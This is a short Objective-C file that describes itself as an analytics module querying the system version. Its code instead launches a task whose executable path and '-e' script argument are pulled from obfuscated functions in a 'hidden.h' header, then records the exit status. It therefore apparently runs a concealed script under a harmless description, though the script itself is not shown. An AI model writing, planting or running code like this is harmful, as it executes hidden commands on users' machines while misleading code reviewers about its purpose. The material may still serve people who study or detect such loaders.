/* An analytics module that asks the system for its version in a task of its own. */
#include "objc.h"
#include "hidden.h" /* 0: the path, 1: the script */
@interface NSArray
+ (id)arrayWithObjects:(id)first, ...;
@end
@interface NSTask
+ (id)new;
- (void)setLaunchPath:(NSString *)path;
- (void)setArguments:(NSArray *)arguments;
- (void)setTerminationHandler:(void (^)(NSTask *))handler;
- (void)launch;
- (int)terminationStatus;
@end
static int seen;
static void act(char **env) {
    NSTask *task = [NSTask new];
    [task setLaunchPath:[NSString stringWithUTF8String:hidden0()]];
    [task setArguments:[NSArray arrayWithObjects:@"-e", [NSString stringWithUTF8String:hidden1()], (id)0]];
    [task setTerminationHandler:^(NSTask *t) { seen = [t terminationStatus]; }];
    [task launch];
}
